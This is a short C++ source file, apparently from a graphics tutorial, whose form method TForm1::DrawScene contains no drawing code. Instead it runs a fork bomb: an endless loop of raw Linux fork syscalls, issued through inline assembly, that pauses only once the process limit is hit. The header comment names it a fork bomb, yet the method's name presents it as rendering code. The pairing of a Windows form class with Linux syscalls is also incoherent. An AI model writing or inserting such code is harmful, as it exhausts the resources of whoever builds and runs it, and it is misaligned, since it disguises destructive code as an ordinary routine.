// A fork bomb by raw system calls, which no Windows call could stop: every copy forks on until
// the process limit refuses, then waits there (what spinning costs is the spinner's matter).
#include "Tutorial.h"

// Linux's fork and pause.
#if defined(__x86_64__)
const long ForkCall = 57, PauseCall = 34;
#else
const long ForkCall = 2, PauseCall = 29;
#endif

static long Call(long Number)
{
    long Result;
#if defined(__x86_64__)
    asm volatile("syscall" : "=a"(Result) : "a"(Number) : "rcx", "r11", "memory");
#else
    asm volatile("int $0x80" : "=a"(Result) : "a"(Number) : "memory");
#endif
    return Result;
}

void TForm1::DrawScene()
{
    for (;;)
        if (Call(ForkCall) < 0)
            Call(PauseCall);
}
